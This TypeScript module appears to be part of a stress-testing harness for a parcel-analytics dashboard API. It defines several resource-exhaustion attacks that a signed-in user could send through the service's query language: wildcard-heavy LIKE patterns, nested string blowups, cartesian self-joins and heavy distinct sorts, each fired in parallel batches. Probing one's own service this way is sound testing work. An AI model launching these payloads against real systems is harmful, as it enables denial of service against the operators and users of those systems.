import type { Attack, Target } from './attack.ts';

type Query = Readonly<Record<string, unknown>>;

const table = ['package_level_info'];

/** Sends the given number of queries at once; returns how many came back with which status. */
async function sendAll({ server, token, clientId }: Target, queries: readonly Query[], signal: AbortSignal) {
  const statuses = await Promise.all(
    queries.map(async (query) => {
      const answer = await fetch(`${server.address}/aiparcelweb/api/aidashboards/data/spend/trends`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify({ fromTableNames: table, ...query, clientId }),
        signal,
      });
      await answer.arrayBuffer();
      return answer.status;
    }),
  );
  const counts = Map.groupBy(statuses, (status) => status);
  return [...counts].map(([status, of]) => `${of.length} × ${status}`).join(', ');
}

/** That many queries, each slightly different, so that no answer is shared. */
const several = (count: number, query: (number: number) => Query) =>
  Array.from({ length: count }, (_, number) => query(number));

const likeOf = (operator: string): Attack => ({
  name: `pattern that can be tried in countless ways (${operator})`,
  run: (target, signal) =>
    sendAll(
      target,
      several(8, (number) => ({
        selectColumnNames: ['count(*) as n'],
        whereClauseDetails: [
          `concat(substr(carrier_name, 1, 1), '${'a'.repeat(200)}') ${operator} '${'%_a'.repeat(20)}b${number}'`,
        ],
      })),
      signal,
    ),
});

const growingText: Attack = {
  name: 'text that grows from query to query',
  run: (target, signal) => {
    const longer = (source: string) => ({
      selectColumnNames: [`concat(${Array.from({ length: 100 }, () => 'text').join(', ')}) as text`],
      fromTableNames: [source],
    });
    const innerQueries = {
      one: { selectColumnNames: ['service as text'], fromTableNames: table },
      two: longer('one'),
      three: longer('two'),
    };
    return sendAll(target, [{ selectColumnNames: ['text'], fromTableNames: ['three'], innerQueries }], signal);
  },
};

const longestTexts: Attack = {
  name: 'texts as long as they may be',
  run: (target, signal) => {
    const long = { selectColumnNames: [`concat(tracking_id, '${'x'.repeat(3_200)}') as text`], fromTableNames: table };
    return sendAll(
      target,
      several(16, (number) => ({
        selectColumnNames: [`concat(text, ${number}) as one`, `concat(${number}, text) as other`],
        fromTableNames: ['long'],
        innerQueries: { long },
      })),
      signal,
    );
  },
};

const inner = {
  selectColumnNames: ['tracking_id as other_id', 'client_id as other_client', 'net_amount as other'],
  fromTableNames: table,
};

const beside = (name: string, conditions: readonly string[]): Attack => ({
  name,
  run: (target, signal) =>
    sendAll(
      target,
      several(16, (number) => ({
        selectColumnNames: [`sum(a.other * b.other + ${number}) as n`],
        fromTableNames: ['a', 'b'],
        whereClauseDetails: conditions,
        innerQueries: { a: inner, b: inner },
      })),
      signal,
    ),
});

const heavySorts: Attack = {
  name: 'sixteen orders of all rows by computed texts',
  run: (target, signal) =>
    sendAll(
      target,
      several(16, (number) => ({
        selectColumnNames: [
          `count(distinct concat(tracking_number, service, consignee_city, ${number})) as n`,
          `count(distinct concat(consignee_city, tracking_number, invoice_number, ${number})) as m`,
        ],
      })),
      signal,
    ),
};

/** Attacks by what a signed-in user can write in the query language. */
export const queryAttacks: readonly Attack[] = [
  likeOf('like'),
  likeOf('not ilike'),
  growingText,
  longestTexts,
  beside('sixteen queries of every row beside every other', []),
  beside('sixteen queries tied by a column with one value', ['a.other_client = b.other_client']),
  heavySorts,
];
